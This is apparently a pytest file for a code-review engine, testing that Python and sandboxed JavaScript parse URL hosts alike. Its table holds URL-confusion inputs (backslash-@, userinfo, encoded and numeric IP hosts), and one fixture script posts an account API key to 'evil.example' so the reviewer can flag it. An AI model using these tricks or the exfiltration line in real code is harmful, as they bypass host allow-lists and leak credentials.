"""Hosts are read as a WHATWG URL parser reads them, alike in both halves of the review.

The table is shared: review/engine/url_parsing.py (ada-url) and sandbox_js/url_hosts.js (the sandbox)
must agree on every row, and each row says what a browser or HTTP client would do.
"""

import json
from concurrent.futures import ThreadPoolExecutor

import pytest

from review.engine.sandbox_runtime import module_source
from review.engine.url_parsing import authority_is_complete, host_is_declared, parse_url
from tests.review.helpers import review, static_findings

# The sandbox runtime's module alone: its factory takes nothing and gives { parseUrl, isDeclared }.
URLS_JS = "(" + module_source("url_hosts.js") + ")()"
HOSTS = ["declared.example", "api.declared.example:8443", "*.wild.example"]

# url -> (host as a client reads it or None, declared under HOSTS)
TABLE = {
    "https://declared.example/v1": ("declared.example", True),
    "https://evil.example\\@declared.example/v1": ("evil.example", False),
    "https://evil.example\\\\@declared.example/v1": ("evil.example", False),
    "https://user:pass@declared.example/v1": ("declared.example", True),
    "https://declared.example@evil.example/": ("evil.example", False),
    "https://a@b@evil.example/": ("evil.example", False),
    "https://evil.example#@declared.example/": ("evil.example", False),
    "https://evil.example?@declared.example/": ("evil.example", False),
    "https:\\\\evil.example/": ("evil.example", False),
    "https:evil.example/x": ("evil.example", False),
    "https:declared.example/x": ("declared.example", True),
    "  https://declared.example/ ": ("declared.example", True),
    "https://decl\tared.exam\nple/": ("declared.example", True),
    "HTTPS://DECLARED.EXAMPLE/": ("declared.example", True),
    "https://declared.example./": ("declared.example.", True),
    "https://declared%2Eexample/": ("declared.example", True),
    "https://%65vil.example/": ("evil.example", False),
    "https://declared.example:443/": ("declared.example", True),
    "https://declared.example:0443/": ("declared.example", True),
    "https://declared.example:8080/": ("declared.example:8080", False),
    "https://api.declared.example:8443/x": ("api.declared.example:8443", True),
    "https://api.declared.example/x": ("api.declared.example", False),
    "https://a.wild.example/": ("a.wild.example", True),
    "https://wild.example/": ("wild.example", False),
    "https://evil.example/.wild.example": ("evil.example", False),
    "https://ｄｅｃｌａｒｅｄ.example/": ("declared.example", True),
    "https://declared。example/": ("declared.example", True),
    "https://bücher.example/": ("xn--bcher-kva.example", False),
    "https://straße.example/": ("xn--strae-oqa.example", False),
    "https://0x7f.1/": ("127.0.0.1", False),
    "https://2130706433/": ("127.0.0.1", False),
    "https://0177.0.0.1/": ("127.0.0.1", False),
    "https://[::1]/": ("[::1]", False),
    "https://[0:0:0:0:0:FFFF:7f00:1]:8443/": ("[::ffff:7f00:1]:8443", False),
    "https://[1:0:0:2:0:0:0:3]/": ("[1:0:0:2::3]", False),
    "https://exa mple/": (None, False),
    "https://exa<mple/": (None, False),
    "https://%zz.example/": (None, False),
    "https:///": (None, False),
    "https://declared.example:99999/": (None, False),
    "https://1.2.3.4.5/": (None, False),
    "/relative/path": (None, False),
    "mailto:someone@declared.example": (None, False),
    "ftp://declared.example/": ("declared.example", False),
}


def js_hosts(urls):
    """What the sandbox (sandbox_js/url_hosts.js) reads from each URL, in a V8 context of the sandbox's kind."""
    from py_mini_racer import MiniRacer

    import review.engine.sandbox_worker  # noqa: F401  (initialises V8 with the sandbox's flags)

    def run():
        ctx = MiniRacer()
        try:
            api = ctx.eval(URLS_JS)
            ctx.eval(f"var HOSTS = {json.dumps(HOSTS)};")
            check = ctx.eval("(function (api, url) { var u = api.parseUrl(url);"
                             " return JSON.stringify([u === null ? null : u.hostport, api.isDeclared(u, HOSTS)]); })")
            return {url: tuple(json.loads(check(api, url))) for url in urls}
        finally:
            ctx.close()

    with ThreadPoolExecutor(max_workers=1) as executor:
        return executor.submit(run).result()


def python_hosts(url):
    parsed = parse_url(url)
    return (parsed.hostport if parsed else None, host_is_declared(url, HOSTS))


@pytest.mark.parametrize("url", list(TABLE))
def test_it_reads_each_host_as_a_whatwg_client_does_in_python(url):
    assert python_hosts(url) == TABLE[url]


def test_it_reads_each_host_alike_in_the_sandbox():
    assert js_hosts(list(TABLE)) == TABLE


def test_the_sandbox_sends_a_backslash_trick_to_the_host_a_client_would():
    result = review(processdata=(
        "var host = ['evil', 'example'].join('.');\n"
        "httprequest.post('https://' + host + '\\\\@api.example.com/v1', metadata.account.apikey);\n"
        "datagrid.addColumn('a'); datagrid.addCell('x'); datagrid.endRow();\n"))
    observed = [f for f in result.findings if f.rule == "external-request"]
    assert observed and "evil.example" in observed[0].message and observed[0].line == 2
    assert [r["host"] for r in result.requests if not r["declared"]] == ["evil.example"]


def test_the_static_half_reads_a_literal_backslash_trick_too():
    hits = static_findings("httprequest.get('https://evil.example\\\\@api.example.com/v1');\n", "external-request")
    assert len(hits) == 1 and "evil.example" in hits[0].message


def test_an_honest_url_with_credentials_in_its_query_is_not_external():
    source = "httprequest.get('https://api.example.com/v1?next=https://x@y.example/&a=b');\n"
    assert static_findings(source, "external-request") == []


@pytest.mark.parametrize("start,complete", [
    ("https://api.", False), ("https://api.example.com", False), ("https://api.example.com/", True),
    ("https://evil.example\\", True), ("https://h?x=", True), ("https://user@", False), ("https:", False),
    ("api.example.com/", False),
])
def test_it_knows_when_a_url_start_holds_its_whole_host(start, complete):
    assert authority_is_complete(start) is complete
